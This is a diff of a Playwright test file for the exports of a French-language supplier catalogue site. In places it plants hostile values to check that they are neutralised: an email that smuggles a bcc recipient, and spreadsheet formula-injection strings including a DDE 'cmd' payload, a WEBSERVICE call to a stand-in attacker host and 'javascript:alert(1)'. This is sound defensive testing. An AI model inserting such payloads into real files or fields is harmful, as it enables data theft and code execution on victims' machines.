@@ -3,9 +3,9 @@
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
 from typing import Any
-from urllib.parse import parse_qs, unquote, urlsplit
 
 import pytest
 from playwright.sync_api import Page, Route
@@ -17,12 +17,9 @@ from .selecting import (
     CAMP,
     CATERER,
     CLEANING,
-    FUNERALS,
     GONE,
-    HALL,
     HOME_HELP,
     PRINTER,
-    ROOMS,
     SELECTION,
     UNSURE,
     catalogue,
@@ -51,7 +48,6 @@ DANGEROUS = (
     'a"b',
     "un\ndeux",
 )
-LONGEST_HREF = 1900
 
 
 def download(page: Page, kind: str) -> Any:
@@ -82,14 +78,15 @@ def test_files_say_what_the_screen_says(site: str, visit: Open, tmp_path: Path, 
         ready(page)
         tab_to(page, "Choisir les lignes")
         page.keyboard.press("Enter")
-        for key in ("neq", "adresse", "fonction"):
+        for key in ("neq", "code_postal", "fonction"):
             page.locator(f"[data-columns] [name={key}]").focus()
             page.keyboard.press("Space")
         page.locator("[data-columns] [name=certifications]").focus()
         page.keyboard.press("Space")
         screen = shown_table(page)
         assert [row[0] for row in screen] == ["Entreprise", PRINTER[1], CLEANING[1], HOME_HELP[1], UNSURE[1]]
-        assert {"NEQ", "Adresse", "Courriel", "Téléphone"} <= set(screen[0])
+        assert {"NEQ", "Adresse", "Code postal", "Courriel", "Téléphone"} <= set(screen[0])
+        assert {"Prix indicatif", "Délai", "Capacité", "Conformité"} <= set(screen[0])
         assert "Certifications" not in screen[0]
 
         file = download(page, "csv")
@@ -102,7 +99,7 @@ def test_files_say_what_the_screen_says(site: str, visit: Open, tmp_path: Path, 
         sheet, cells = read_workbook(download(page, "xlsx"), tmp_path)
         assert cells == screen
         assert sheet.freeze_panes == "A2"
-        assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value} == {"s"}
+        assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value} == {"s", "d", "f"}
 
         page.reload()
         ready(page)
@@ -153,164 +150,6 @@ def test_a_large_workbook_needs_no_worker(example: Project, site: str, visit: Op
         _, cells = read_workbook(download(page, "xlsx"), tmp_path)
         assert len(cells) == len(everyone) + 1
         assert cells[-1][cells[0].index("Activité")].endswith(f" {len(everyone) - 1}")
-
-
-def fill(page: Page, **values: str) -> None:
-    """Type in the form of the first contact."""
-    for name, value in values.items():
-        page.locator(f"[data-contact] [name={name}]").fill(value)
-
-
-@pytest.mark.parametrize("width", WIDTHS.values(), ids=WIDTHS)
-def test_first_contact(site: str, visit: Open, width: int) -> None:
-    with visit(site, width=width) as visited:
-        page = visited.page
-        choose(page, CLEANING, HOME_HELP, UNSURE)
-        visited.open(SELECTION)
-        ready(page)
-        section = page.locator("section", has=page.locator("#contact"))
-        assert "n’est pas un appel d’offres sur invitation" in section.inner_text()
-        assert "573.1" in section.inner_text()
-        page.locator("#contact-besoin").focus()
-        page.keyboard.type("Entretien de l’hôtel de ville & du garage?")
-        fill(page, date="2027-01-15", comment="Par courriel à achats@ville.example.org.", reference="2027-04")
-        fill(page, signature="Ville d’Exempleville")
-        text = page.locator("[data-contact-text]").input_value()
-        assert "au plus tard le 15\u00a0janvier\u00a02027" in text
-        assert "par courriel à achats@ville.example.org?" in text
-        assert "ni une invitation à soumissionner" in text
-
-        link = page.get_by_role("link", name="Ouvrir dans mon courriel")
-        href = link.get_attribute("href") or ""
-        assert len(href) <= LONGEST_HREF
-        parts = urlsplit(href)
-        assert (parts.scheme, parts.path) == ("mailto", "")
-        query = parse_qs(parts.query, strict_parsing=True)
-        assert set(query) == {"bcc", "subject", "body"}
-        assert query["bcc"] == ["soumissions@entretien.example.org,ententes@aide-exemple.example"]
-        assert query["body"][0].replace("\r\n", "\n") == text
-        assert "2027-04" in query["subject"][0]
-
-        groups = {g.locator("h3").inner_text(): g.inner_text() for g in page.locator(".contact__group").all()}
-        assert [title.split(" (")[0] for title in groups] == [
-            "Recevront le message",
-            "À confirmer d’abord",
-        ]
-        assert UNSURE[1] in groups["À confirmer d’abord (1)"]
-
-        page.reload()
-        ready(page)
-        assert page.locator("[data-contact-text]").input_value() == text, "what was typed outlives the page"
-
-
-def test_a_long_message_is_copied(site: str, visit: Open) -> None:
-    with visit(site, permissions=["clipboard-read", "clipboard-write"]) as visited:
-        page = visited.page
-        choose(page, CLEANING)
-        visited.open(SELECTION)
-        ready(page)
-        lengths = []
-        for count in range(20, 1000, 60):
-            fill(page, besoin="é" * count)
-            link = page.get_by_role("link", name="Ouvrir dans mon courriel")
-            if link.count() == 0:
-                break
-            lengths.append(len(link.get_attribute("href") or ""))
-        assert lengths
-        assert max(lengths) <= LONGEST_HREF
-        assert page.get_by_role("link", name="Ouvrir dans mon courriel").count() == 0
-        page.get_by_role("button", name="Copier le texte").focus()
-        page.keyboard.press("Enter")
-        page.get_by_text("Texte copié.").wait_for()
-        assert page.evaluate("navigator.clipboard.readText()") == page.locator("[data-contact-text]").input_value()
-        page.get_by_role("button", name="Copier les adresses").click()
-        page.get_by_text("Adresses copiées.").wait_for()
-        assert page.evaluate("navigator.clipboard.readText()") == "soumissions@entretien.example.org"
-
-
-def test_only_what_is_confirmed_is_written_to(example: Project, site: str, visit: Open) -> None:
-    """A record or offers to confirm, an address that would add recipients, no e-mail: each in its own list."""
-    data = catalogue(example.site)
-    firms, offers = data["entreprises"], data["offres"]
-
-    def rank(slug: str) -> int:
-        return int(firms["slug"].index(slug))
-
-    firms["confirmee"][rank(HOME_HELP[0])] = 0
-    for index, owner in enumerate(offers["entreprise"]):
-        if owner == rank(CLEANING[0]):
-            offers["confirmee"][index] = 0
-    firms["courriel"][rank(PRINTER[0])] = ""
-    others = [slug for slug in ("le-carrefour-exemple", "caisse-d-exemple") if firms["confirmee"][rank(slug)]]
-    firms["courriel"][rank(others[0])] = "a@exemple.test&bcc=pirate@exemple.test"
-    firms["courriel"][rank(others[1])] = "ok@exemple.test"
-    chosen = [HOME_HELP[0], CLEANING[0], PRINTER[0], *others]
-    with visit(site) as visited:
-        page = visited.page
-        alter(page, data)
-        choose(page, *((slug, firms["nom"][rank(slug)]) for slug in chosen))
-        visited.open(SELECTION)
-        ready(page)
-        groups = {
-            g.locator("h3").inner_text(): g.locator("li a[href*=entreprises]").all_inner_texts()
-            for g in page.locator(".contact__group").all()
-        }
-        assert groups == {
-            "Recevront le message (1)": [firms["nom"][rank(others[1])]],
-            "À joindre par téléphone (2)": [PRINTER[1], firms["nom"][rank(others[0])]],
-            "À confirmer d’abord (2)": [HOME_HELP[1], CLEANING[1]],
-        }
-        href = page.get_by_role("link", name="Ouvrir dans mon courriel").get_attribute("href") or ""
-        assert "pirate" not in unquote(href)
-        phones = page.locator(".contact__group a[href^=tel]").all_inner_texts()
-        assert firms["telephone"][rank(PRINTER[0])] in phones
-
-
-def groups(page: Page) -> dict[str, list[str]]:
-    """List the enterprises of each group of the first contact, by its title."""
-    found = page.locator(".contact__group").all()
-    return {g.locator("h3").inner_text(): g.locator("li a[href*=entreprises]").all_inner_texts() for g in found}
-
-
-def test_who_is_confirmed_for_something_else_is_not_written_to(example: Project, site: str, visit: Open) -> None:
-    """Each is judged on what it was kept for, on the data of today; the need that they share is proposed."""
-    data = catalogue(example.site)
-    firms, offers = data["entreprises"], data["offres"]
-    hall = firms["slug"].index(HALL[0])
-    rooms = [row[0] for row in data["categories"]].index("location-salles")
-    for index, (owner, category) in enumerate(zip(offers["entreprise"], offers["categorie"], strict=True)):
-        if (owner, category) == (hall, rooms):
-            offers["confirmee"][index] = 0  # since it was kept
-    with visit(site) as visited:
-        page = visited.page
-        alter(page, data)
-        choose(
-            page,
-            *(kept_for(firm, ROOMS, "offre") for firm in (HALL, FUNERALS, BREWERY)),
-            kept_for(CAMP, ROOMS, "secteur"),
-        )
-        visited.open(SELECTION)
-        page.locator("[data-contact-lists] h3").first.wait_for()
-        assert groups(page) == {
-            "Recevront le message (2)": [FUNERALS[1], BREWERY[1]],
-            "À confirmer d’abord (2)": [HALL[1], CAMP[1]],
-        }
-        assert page.input_value("#contact-besoin") == ROOMS
-        assert ROOMS in page.locator("[data-contact-text]").input_value()
-        page.fill("#contact-besoin", "Salle de 40 places")
-        page.reload()
-        page.locator("[data-contact-lists] h3").first.wait_for()
-        assert page.input_value("#contact-besoin") == "Salle de 40 places", "what was typed is left alone"
-
-
-def test_two_needs_propose_none(site: str, visit: Open) -> None:
-    with visit(site) as visited:
-        page = visited.page
-        choose(page, kept_for(CATERER, "traiteur", "offre"), kept_for(HALL, ROOMS, "offre"))
-        visited.open(SELECTION)
-        page.locator("[data-contact-lists] h3").first.wait_for()
-        assert page.input_value("#contact-besoin") == ""
-        assert groups(page) == {"Recevront le message (2)": [CATERER[1], HALL[1]]}
 
 
 def test_files_say_what_each_was_kept_for(site: str, visit: Open, tmp_path: Path) -> None:
@@ -389,3 +228,69 @@ def test_the_writer_of_workbooks_comes_when_asked(site: str, visit: Open) -> Non
         assert not [url for url in asked if "workbook" in url]
         download(visited.page, "xlsx")
         assert [url for url in asked if "workbook" in url]
+
+
+def test_a_workbook_says_what_it_is(example: Project, site: str, visit: Open, tmp_path: Path) -> None:
+    """Numbers, days and links as such, a sheet « À propos », and a name that says the need and the date."""
+    with visit(site) as visited:
+        page = visited.page
+        visited.open("acheter/catalogue/?categorie=location-salles&pres=99503&rayon=100")
+        every_result(page)
+        with page.expect_download() as waiting:
+            page.locator("[data-catalogue-export=xlsx]").click()
+        file = waiting.value
+        assert re.fullmatch(r"location-de-salles-20\d\d-\d\d-\d\d\.xlsx", file.suggested_filename)
+        sheet, _ = read_workbook(file, tmp_path)
+    heads = [cell.value for cell in sheet[1]]
+    first = dict(zip(heads, sheet[2], strict=True))
+    assert first["Distance à vol d’oiseau (km)"].data_type == "n"
+    assert first["Fiche vérifiée"].is_date
+    assert first["Fiche"].value.startswith(f'=HYPERLINK("{site}entreprises/')
+    assert first["Courriel"].value.startswith('=HYPERLINK("mailto:')
+    assert sheet.freeze_panes == "A2"
+    about = sheet.parent["À propos"]
+    rows = [[cell.value for cell in row] for row in about.iter_rows(min_row=2)]
+    said = dict(reversed(rows))
+    assert said["Question"].startswith("Fournisseurs de location de salles à 100\u00a0km ou moins d’Exemple-les-Bains")
+    assert said["Filtres"] == "Location de salles; À 100\u00a0km ou moins d’Exemple-les-Bains"
+    assert said["Date des données"].isoformat().startswith("2026-11-02")
+    assert said["Fiches"] == catalogue(example.site)["version"]["fiches"]
+    assert site in said["Site"]
+    warned = " ".join(text for label, text in rows if label == "Mise en garde")
+    assert "À confirmer" in warned
+    assert "échéances" in warned
+    assert about.freeze_panes == "A2"
+
+
+def test_links_hold_no_other_formula(example: Project, site: str, visit: Open, tmp_path: Path) -> None:
+    data = catalogue(example.site)
+    firms = data["entreprises"]
+    rank = firms["slug"].index(PRINTER[0])
+    with visit(site) as visited:
+        page = visited.page
+        choose(page, PRINTER, CLEANING)
+        visited.open(SELECTION)
+        for website, mail in (
+            ("https://a.example/\");cmd|'/C calc'!A0;(\"", 'a@b.example",WEBSERVICE("https://pirate.example")'),
+            ("javascript:alert(1)", "a@b.example?bcc=pirate@pirate.example"),
+            ("https://a.example/" + "x" * 300, "=1+1"),
+            ("https://a.example/ un\ndeux", "a b@c.example"),
+        ):
+            firms["site_web"][rank], firms["courriel"][rank] = website, mail
+            page.unroute_all()
+            alter(page, data)
+            visited.open(SELECTION)
+            ready(page)
+            sheet, rows = read_workbook(download(page, "xlsx"), tmp_path)
+            for title, text in (("Site web", website), ("Courriel", mail)):
+                cell = sheet.cell(2, rows[0].index(title) + 1)
+                assert cell.data_type == "s", text
+                assert cell.value == text
+        firms["site_web"][rank] = "https://a.example/?a=1&b='x'"
+        page.unroute_all()
+        alter(page, data)
+        visited.open(SELECTION)
+        ready(page)
+        sheet, rows = read_workbook(download(page, "xlsx"), tmp_path)
+        cell = sheet.cell(2, rows[0].index("Site web") + 1)
+        assert cell.value == "=HYPERLINK(\"https://a.example/?a=1&b='x'\",\"https://a.example/?a=1&b='x'\")"
